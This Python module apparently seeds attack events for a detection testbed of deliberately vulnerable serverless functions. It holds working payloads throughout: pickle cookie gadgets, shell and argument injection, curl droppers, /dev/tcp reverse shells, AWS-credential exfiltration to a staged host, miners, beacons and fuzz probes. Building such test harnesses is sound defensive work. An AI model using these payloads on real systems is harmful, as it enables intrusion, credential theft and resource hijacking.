"""Seeded attack events. Each generator returns (event, variant, expect): the malicious event for
one vulnerable function, the variant's name, and what the host services or the sandbox report
must show once it ran (checked by the self-test). GENERATORS maps a class and a target
function to its generator."""

import base64
import hashlib
import pickle

from . import payloads as p
from .hosts import STAGE_BINARIES
from .workloads import api_event, lognormal, node_order, order_batch, pdf_url

GUEST = "{'user': 'guest', 'cart': []}"


class _Gadget:
    """Pickles to `func(*args)`: what a crafted session cookie carries."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _cookie_event(rng, gadget):
    cookie = base64.b64encode(pickle.dumps(gadget, protocol=4)).decode()
    return api_event(rng, "GET", "/cart", headers={"Cookie": f"lang=en; session={cookie}"})


def _eval_then_guest(expression):
    """A cookie that runs `expression` and still yields a valid session (a quiet attack)."""
    return _Gadget(eval, f"[{expression}, {GUEST}][1]")


def _exec_then_guest(code):
    return _eval_then_guest(f"exec({code!r}, {{}})")


def _system(command):
    return _Gadget(__import__("os").system, command)


# --- doc-convert: shell injection through `level` ----------------------------------------
def _doc_event(rng, injected):
    return {"bucket": "acme-uploads", "key": f"invoices/2024/inv-{rng.randint(1, 99999):05d}.pdf",
            "size": lognormal(rng, 16 * 1024, 0.8, 512, 256 * 1024), "level": injected}


BREAK = "6 -c /dev/null >/dev/null;"


def command_injection(rng, ports, scale):
    variant, line = rng.choice((
        ("recon", f"{BREAK} id; uname -a; head -3 /etc/os-release #"),
        ("subshell", "6 $(id >&2; ls -la /var/task >&2; hostname >&2)"),
        ("chained", f"{BREAK} id && ls /opt /var/task && ps -ef | head -20 #"),
        ("search", f"{BREAK} id; find / -maxdepth 3 -name '*.pem' -o -maxdepth 3 -name '*.key' "
                   "2>/dev/null | head #"),
    ))
    return _doc_event(rng, line), variant, {"output_contains": "uid="}


def dropper(rng, ports, scale):
    """Fetches (or unpacks) an ELF into /tmp and runs it: either a quick `uname -a`, or a
    hashing tool fed tens of MB, whose digest proves it ran."""
    url = f"http://{p.HOST}:{ports['stage']}"
    choice = rng.choice(("curl-stage", "wget-stage", "inline-b64"))
    path = rng.choice(("/k", "/h"))
    megabytes = rng.randint(20, 80)
    if path == "/k":
        expect = "Linux"

        def run(binary):
            return f"{binary} -a"
    else:
        expect = hashlib.sha256(bytes(megabytes << 20)).hexdigest()

        def run(binary):
            return f"(head -c {megabytes}M /dev/zero | {binary})"
    if choice == "curl-stage":
        line = (f"{BREAK} curl -s -m 5 {url}{path} -o /tmp/.kworker && chmod +x /tmp/.kworker "
                f"&& {run('/tmp/.kworker')} #")
    elif choice == "wget-stage":
        line = (f"{BREAK} wget -q -T 5 -O /tmp/.cache-upd {url}{path} && chmod 755 /tmp/.cache-upd "
                f"&& {run('/tmp/.cache-upd')}; rm -f /tmp/.cache-upd #")
    else:
        with open(STAGE_BINARIES[path], "rb") as f:
            blob = p.b64(f.read())
        line = (f"{BREAK} echo {blob} | base64 -d > /tmp/x86_64 && chmod +x /tmp/x86_64 "
                f"&& {run('/tmp/x86_64')}; rm -f /tmp/x86_64 #")
    return _doc_event(rng, line), f"{choice}{path}", {"output_contains": expect}


def persistence(rng, ports, scale):
    port = ports["beacon"]
    choice = rng.choice(("beacon-loop", "tmp-script", "python-daemon"))
    if choice == "beacon-loop":
        line = f"{BREAK} setsid bash -c '{p.beacon_loop(port)}' </dev/null >/dev/null 2>&1 & #"
    elif choice == "tmp-script":
        script = p.b64("#!/bin/bash\n" + p.beacon_loop(port) + "\n")
        line = (f"{BREAK} mkdir -p /tmp/.ICE-unix && echo {script} | base64 -d > /tmp/.ICE-unix/.x "
                f"&& chmod +x /tmp/.ICE-unix/.x && (setsid /tmp/.ICE-unix/.x </dev/null >/dev/null 2>&1 &) #")
    else:
        script = p.b64(p.beacon_daemon(port))
        line = (f"{BREAK} mkdir -p /tmp/.X11-unix && echo {script} | base64 -d > /tmp/.X11-unix/.sd "
                f"&& python3 /tmp/.X11-unix/.sd </dev/null >/dev/null 2>&1 #")
    return _doc_event(rng, line), choice, {"beacon": True}


# --- session-api: code runs while the cookie is unpickled -----------------------------------
def reverse_shell(rng, ports, scale):
    port = ports["c2"]
    choice = rng.choice(("bash-devtcp", "python-dup2", "system-gadget"))
    if choice == "bash-devtcp":
        gadget = _eval_then_guest(f"__import__('os').system({p.reverse_shell_bash(port)!r})")
    elif choice == "python-dup2":
        gadget = _eval_then_guest(p.reverse_shell_python(port))
    else:
        gadget = _system(p.reverse_shell_bash(port))
    return _cookie_event(rng, gadget), choice, {"c2_contains": "uid="}


def credential_theft(rng, ports, scale):
    port = ports["loot"]
    choice = rng.choice(("environ-http", "proc-environ-socket", "curl-environ"))
    if choice == "environ-http":
        gadget = _exec_then_guest(p.steal_env_http(port))
    elif choice == "proc-environ-socket":
        gadget = _exec_then_guest(p.steal_proc_environ_socket(port))
    else:
        gadget = _eval_then_guest(f"__import__('os').system({p.steal_curl(port)!r})")
    return _cookie_event(rng, gadget), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


def egress_exfiltration(rng, ports, scale):
    port = ports["exfil"]
    median, top = (3, 5) if scale == "small" else (8, 40)
    total = lognormal(rng, median * 2**20, 0.6, 2 * 2**20, top * 2**20)
    choice = rng.choice(("stream", "chunked", "staged-tmp"))
    if choice == "stream":
        code = p.exfil_stream(port, total)
    elif choice == "chunked":
        code = p.exfil_chunked(port, total, rng.choice((256, 512, 1024)) * 1024)
    else:
        code = p.exfil_staged(port, total)
    return _cookie_event(rng, _exec_then_guest(code)), choice, {"exfil_bytes": total}


# --- pricing-rules: the expression is eval'd, so all of this runs inside the runtime --------
def _rule_event(rng, expression, variables=None):
    return {"rule_id": rng.choice(("base-qty", "discount", "promo-2024")), "expression": expression,
            "vars": variables or {"base": round(rng.uniform(1, 500), 2), "qty": rng.randint(1, 9)},
            "currency": "EUR"}


def _exec_rule(code):
    """An expression that runs `code` and still prices the order (exec returns None)."""
    return f"exec({code!r}, {{}}) or base * qty"


# The pool on a port miners default to (`stratum`) or on any other (`pool`).
POOLS = ("pool", "stratum")
MINED = {"pool_methods": ["mining.subscribe", "mining.authorize", "mining.submit"]}


def crypto_mining(rng, ports, scale):
    algorithm = rng.choice(("sha256d", "scrypt", "blake2b"))
    agent = rng.choice(("cpuminer/2.5.1", "xmrig/6.21.0", "python-miner/0.3"))
    worker = f"4{rng.getrandbits(64):016x}.w{rng.randint(1, 9)}"
    budget = round(rng.uniform(1.0, 2.0), 2)
    pool = rng.choice(POOLS)
    code = p.miner(ports[pool], algorithm, budget, agent, worker)
    return _rule_event(rng, _exec_rule(code)), f"{algorithm}/{pool}", MINED


def denial_of_wallet(rng, ports, scale):
    choice, expression, variables = rng.choice((
        ("generator-sum", "sum(i * i for i in range(10**11))", None),
        ("nested-loop", "sum(1 for a in range(10**6) for b in range(10**6)) * base", None),
        ("huge-qty", "base * max(1 - d / 1e12 for d in range(qty))", {"base": 9.99, "qty": 10**12}),
        ("sqrt-series", "base * sum(math.sqrt(n) for n in range(1, qty))", {"base": 1.0, "qty": 10**13}),
    ))
    return _rule_event(rng, expression, variables), choice, {"status": "timeout"}


PROBES = (
    {"expression": "base *"}, {"expression": "base * qty * (1 - discount"},
    {"expression": "{{7*7}}"}, {"expression": "${jndi:ldap://" + p.HOST + "/a}"},
    {"expression": "' OR '1'='1' --"}, {"expression": "__import__"},
    {"expression": "<script>alert(1)</script>"}, {"expression": "../../../../etc/passwd"},
    {"expression": "%s%s%s%s%n"}, {"expression": "(" * 300 + "1" + ")" * 300},
    {"expression": "A" * 4096}, {"expression": "base / 0"}, {"expression": 1337},
    {"expression": ["base"]}, {"vars": "AAAA"}, {"rule_id": "x"},
    {"expression": "undefined_name * 2"}, {"expression": "base.__class__.__mro__[1].__subclasses__()"},
)


def probing(rng, ports, scale):
    probe = dict(rng.choice(PROBES))
    probe.setdefault("rule_id", f"r{rng.randint(1, 99)}")
    if "expression" in probe:
        probe.setdefault("vars", {"base": rng.randint(1, 100)})
    return probe, "fuzz", {"status": "error"}


def rules_reverse_shell(rng, ports, scale):
    """A shell whose stdin, stdout and stderr are a socket, from inside the runtime: forked and
    exec'd, on a pty, or through subprocess."""
    port = ports["c2"]
    choice = rng.choice(("fork-dup2", "pty-fork", "popen-socket"))
    if choice == "fork-dup2":
        expression = _exec_rule(p.reverse_shell_fork_dup2(port))
    elif choice == "pty-fork":
        expression = _exec_rule(p.reverse_shell_pty(port))
    else:
        expression = f"({p.reverse_shell_python(port)}, base * qty)[1]"
    return _rule_event(rng, expression), choice, {"c2_contains": "uid="}


def rules_credential_theft(rng, ports, scale):
    port = ports["loot"]
    choice, code = rng.choice((
        ("environ-urllib", p.steal_env_http(port)),
        ("proc-environ-socket", p.steal_proc_environ_socket(port)),
        ("query-string", p.steal_env_query(port)),
    ))
    return _rule_event(rng, _exec_rule(code)), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


def _exfil_total(rng, scale, top_mb):
    median, top = (3, 5) if scale == "small" else (8, top_mb)
    return lognormal(rng, median * 2**20, 0.6, 2 * 2**20, top * 2**20)


def rules_egress_exfiltration(rng, ports, scale):
    """As session-api's, in a 128 MB function: the dump is held three times, so at most 12 MB."""
    port = ports["exfil"]
    total = _exfil_total(rng, scale, 12)
    choice = rng.choice(("stream", "chunked", "staged-tmp"))
    if choice == "stream":
        code = p.exfil_stream(port, total)
    elif choice == "chunked":
        code = p.exfil_chunked(port, total, rng.choice((256, 512, 1024)) * 1024)
    else:
        code = p.exfil_staged(port, total)
    return _rule_event(rng, _exec_rule(code)), choice, {"exfil_bytes": total}


def rules_persistence(rng, ports, scale):
    """Persistence without a process: a thread, a timer chain, or a patched builtin that keeps
    beaconing from the runtime process across warm invocations."""
    port = ports["beacon"]
    choice, code = rng.choice((
        ("beacon-thread", p.beacon_thread(port)),
        ("timer-chain", p.beacon_timer(port)),
        ("patched-print", p.beacon_patched_print(port)),
    ))
    return _rule_event(rng, _exec_rule(code)), choice, {"beacon": True}


# --- node-api: `{{ }}` in the order's template is compiled with new Function -----------------
def _template_event(rng, expression):
    """A valid order whose confirmation template carries the payload between ordinary text, so
    that the message still renders."""
    order = node_order(rng)
    order["template"] = rng.choice((
        "Thanks {{customer.name}}!{{ %s }} Order {{orderId}}: {{money(total, currency)}}",
        "{{ %s }}Hi {{customer.name.split(' ')[0]}}, {{lines}} {{plural(lines, 'line')}}.",
    )) % expression
    return api_event(rng, "POST", "/orders", body=order)


def node_reverse_shell(rng, ports, scale):
    choice = rng.choice(("spawn-pipe", "spawn-socket-stdio"))
    code = (p.js_reverse_shell_pipe if choice == "spawn-pipe" else p.js_reverse_shell_stdio)(ports["c2"])
    return _template_event(rng, code), choice, {"c2_contains": "uid="}


def node_credential_theft(rng, ports, scale):
    choice, make = rng.choice((("env-http-post", p.js_steal_env_http),
                               ("proc-environ-net", p.js_steal_proc_environ),
                               ("query-string", p.js_steal_env_query)))
    return _template_event(rng, make(ports["loot"])), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


def node_egress_exfiltration(rng, ports, scale):
    port = ports["exfil"]
    total = _exfil_total(rng, scale, 24)
    choice = rng.choice(("stream", "chunked", "staged-tmp"))
    if choice == "stream":
        code = p.js_exfil_stream(port, total)
    elif choice == "chunked":
        code = p.js_exfil_chunked(port, total, rng.choice((256, 512, 1024)) * 1024)
    else:
        code = p.js_exfil_staged(port, total)
    return _template_event(rng, code), choice, {"exfil_bytes": total}


def node_persistence(rng, ports, scale):
    choice, make = rng.choice((("interval-beacon", p.js_beacon_interval),
                               ("patched-json-parse", p.js_beacon_patched_parse)))
    return _template_event(rng, make(ports["beacon"])), choice, {"beacon": True}


def node_crypto_mining(rng, ports, scale):
    algorithm = rng.choice(("sha256d", "scrypt", "blake2b"))
    agent = rng.choice(("xmrig-nodejs/1.4.0", "cpuminer/2.5.1", "node-stratum/0.2"))
    worker = f"4{rng.getrandbits(64):016x}.w{rng.randint(1, 9)}"
    budget = round(rng.uniform(1.0, 2.0), 2)
    pool = rng.choice(POOLS)
    code = p.js_miner(ports[pool], algorithm, budget, agent, worker)
    return _template_event(rng, code), f"{algorithm}/{pool}", MINED


def node_denial_of_wallet(rng, ports, scale):
    """The event loop stuck in one expression until the 6 s timeout."""
    choice, expression = rng.choice((
        ("busy-loop", "(() => { let x = 0; for (;;) x += lines; })()"),
        ("redos", "/^(a+)+$/.test('a'.repeat(48) + '!') ? '' : ''"),
        ("pbkdf2", "process.mainModule.require('crypto').pbkdf2Sync(customer.email, orderId, 5e7, 64, "
                   "'sha512').toString('hex').slice(0, 0)"),
    ))
    return _template_event(rng, expression), choice, {"status": "timeout"}


def node_response_exfiltration(rng, ports, scale):
    """The `lookup` helper called for a whole range of customers: the directory in the message."""
    count, start = rng.randint(8000, 20000), 0
    choice = rng.choice(("customer-dump", "customer-dump-offset"))
    if choice == "customer-dump-offset":
        start = rng.randint(1, 60) * 1000
    expression = f"JSON.stringify(Array.from({{ length: {count} }}, (_, i) => lookup({start} + i)))"
    return _template_event(rng, expression), choice, {"min_response_bytes": 1_000_000}


# Malformed orders and template probes: each ends in an unhandled exception (a 502).
NODE_PROBES = (
    '{"customer_id": "C00001", "items": [', "not json", "", "null", "[" * 2000 + "]" * 2000,
    '{"customer_id": "C00001", "currency": "EUR", "items": "AAAA"}',
    '{"customer_id": "C00001", "currency": "EUR", "items": [null]}',
    '{"customer_id": {"$ne": null}, "items": {"$gt": ""}}',
    "{{}}", "{{ ${7*7} }}", "{{ #{7*7} }}", "{{ <%= 7*7 %> }}", "{{ '\\' }}",
    "{{ require('child_process').execSync('id') }}", "{{ this.x.y }}",
    "{{ constructor.constructor('return process')().mainModule.x.y }}",
)


def node_probing(rng, ports, scale):
    probe = rng.choice(NODE_PROBES)
    if probe.startswith("{{"):
        order = node_order(rng)
        order["template"] = probe
        event = api_event(rng, "POST", "/orders", body=order)
    else:
        event = api_event(rng, "POST", "/orders")
        event["body"] = probe
    return event, "fuzz", {"status": "error"}


# --- bash-runtime: `group_by` is eval'd in the jq command line --------------------------------
# Ends the jq command (`-n 1` prints 1 and reads nothing), then the attacker's commands; `#`
# comments out the rest of the command line.
JQ_BREAK = "category -n 1;"


def _batch_event(rng, line):
    batch = order_batch(rng)
    batch["group_by"] = line
    return batch


def bash_command_injection(rng, ports, scale):
    variant, line = rng.choice((
        ("recon", f"{JQ_BREAK} id; uname -a; ls -la /var/task #"),
        ("chained", f"{JQ_BREAK} id && ps -ef | head -20 && cat /etc/os-release #"),
        ("env-names", f"{JQ_BREAK} id; env | cut -d= -f1 | sort #"),
    ))
    return _batch_event(rng, line), variant, {"output_contains": "uid="}


def bash_reverse_shell(rng, ports, scale):
    port = ports["c2"]
    choice, line = rng.choice((
        ("bash-devtcp", f"{JQ_BREAK} bash -i >& /dev/tcp/{p.HOST}/{port} 0>&1 #"),
        ("exec-fd", f"{JQ_BREAK} exec 5<>/dev/tcp/{p.HOST}/{port}; sh -i <&5 >&5 2>&5; exec 5>&- #"),
    ))
    return _batch_event(rng, line), choice, {"c2_contains": "uid="}


def bash_credential_theft(rng, ports, scale):
    """With the very tools the runtime forks on every call: curl, jq, grep."""
    url = f"http://{p.HOST}:{ports['loot']}"
    choice, line = rng.choice((
        ("env-grep-curl", f"{JQ_BREAK} env | grep ^AWS_ | curl -s -m 3 --data-binary @- {url}/e #"),
        ("proc-environ-curl", f"{JQ_BREAK} curl -s -m 3 --data-binary @/proc/$$/environ {url}/p #"),
        ("jq-env", f"{JQ_BREAK} jq -nc 'env | with_entries(select(.key | startswith(\"AWS_\")))' "
                   f"| curl -s -m 3 -H 'Content-Type: application/json' --data-binary @- {url}/j #"),
    ))
    return _batch_event(rng, line), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


def bash_dropper(rng, ports, scale):
    """The binary fetched into a file from mktemp (as the runtime makes its own), run, removed."""
    path = rng.choice(("/k", "/h"))
    megabytes = rng.randint(20, 80)
    if path == "/k":
        run, expect = "$f -a", "Linux"
    else:
        run, expect = f"head -c {megabytes}M /dev/zero | $f", hashlib.sha256(bytes(megabytes << 20)).hexdigest()
    line = (f"{JQ_BREAK} f=$(mktemp); curl -s -m 5 -o $f http://{p.HOST}:{ports['stage']}{path} "
            f"&& chmod +x $f && {run}; rm -f $f #")
    return _batch_event(rng, line), f"curl-mktemp{path}", {"output_contains": expect}


# --- pdf-convert: the URL is unquoted in `sh -c "curl -sS URL | ./bin/converter -"` -----------
def _document_event(rng, url):
    return {"document": {"id": f"doc-{rng.getrandbits(40):010x}", "url": url,
                         "content_type": "application/pdf"},
            "requested_by": f"u{rng.getrandbits(24):06x}"}


def pdf_command_injection(rng, ports, scale):
    """Output back in the 502's `output`, or (blind) smuggled to the document server in the
    query string of the ordinary download."""
    url = pdf_url(rng, ports)
    choice = rng.choice(("semicolon", "query-smuggle"))
    if choice == "semicolon":
        # The download goes to /dev/null: binary PDF bytes in the output would fail its decoding.
        url, expect = f"{url} -o /dev/null; uname -a; ls /var/task; id #", {"output_contains": "uid="}
    else:
        # base64 of "uid=<digit>..." always begins with "dWlkPT".
        url, expect = f"{url}?ref=$(id|base64 -w0)", {"docs_contains": "dWlkPT"}
    return _document_event(rng, url), choice, expect


def pdf_credential_theft(rng, ports, scale):
    """Argument injection: no shell syntax at all, curl is told to upload its own environment
    (which is the function's) to the attacker and pipes the reply to the converter as usual."""
    loot = f"http://{p.HOST}:{ports['loot']}/upload"
    # (-F and -T would send nothing: they trust the size /proc reports, 0.)
    choice, url = rng.choice((("data-binary", f"{loot} --data-binary @/proc/self/environ"),
                              ("data-urlencode", f"{loot} --data-urlencode env@/proc/self/environ")))
    return _document_event(rng, url), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


# --- customer-export: no cap on limit -------------------------------------------------------
def response_exfiltration(rng, ports, scale):
    choice = rng.choice(("all-fields", "all-fields-offset", "public-fields-bulk"))
    if choice == "public-fields-bulk":
        query = {"segment": rng.choice(("emea", "amer")), "limit": str(rng.randint(16000, 24000)),
                 "fields": "id,name,email,country,tier"}
    else:
        query = {"segment": rng.choice(("emea", "amer", "apac", "enterprise")),
                 "limit": str(rng.randint(6000, 11000)), "fields": "*",
                 "offset": str(0 if choice == "all-fields" else rng.randint(1, 50) * 1000)}
    return api_event(rng, "GET", "/customers/export", query=query), choice, {"min_response_bytes": 1_000_000}


# (class, target function) -> generator; catalog.TARGETS lists the same pairs.
GENERATORS = {
    ("command_injection", "doc-convert"): command_injection,
    ("command_injection", "bash-runtime"): bash_command_injection,
    ("command_injection", "pdf-convert"): pdf_command_injection,
    ("dropper", "doc-convert"): dropper,
    ("dropper", "bash-runtime"): bash_dropper,
    ("persistence", "doc-convert"): persistence,
    ("persistence", "pricing-rules"): rules_persistence,
    ("persistence", "node-api"): node_persistence,
    ("reverse_shell", "session-api"): reverse_shell,
    ("reverse_shell", "bash-runtime"): bash_reverse_shell,
    ("reverse_shell", "pricing-rules"): rules_reverse_shell,
    ("reverse_shell", "node-api"): node_reverse_shell,
    ("credential_theft", "session-api"): credential_theft,
    ("credential_theft", "bash-runtime"): bash_credential_theft,
    ("credential_theft", "pdf-convert"): pdf_credential_theft,
    ("credential_theft", "pricing-rules"): rules_credential_theft,
    ("credential_theft", "node-api"): node_credential_theft,
    ("egress_exfiltration", "session-api"): egress_exfiltration,
    ("egress_exfiltration", "pricing-rules"): rules_egress_exfiltration,
    ("egress_exfiltration", "node-api"): node_egress_exfiltration,
    ("crypto_mining", "pricing-rules"): crypto_mining,
    ("crypto_mining", "node-api"): node_crypto_mining,
    ("denial_of_wallet", "pricing-rules"): denial_of_wallet,
    ("denial_of_wallet", "node-api"): node_denial_of_wallet,
    ("probing", "pricing-rules"): probing,
    ("probing", "node-api"): node_probing,
    ("response_exfiltration", "customer-export"): response_exfiltration,
    ("response_exfiltration", "node-api"): node_response_exfiltration,
}
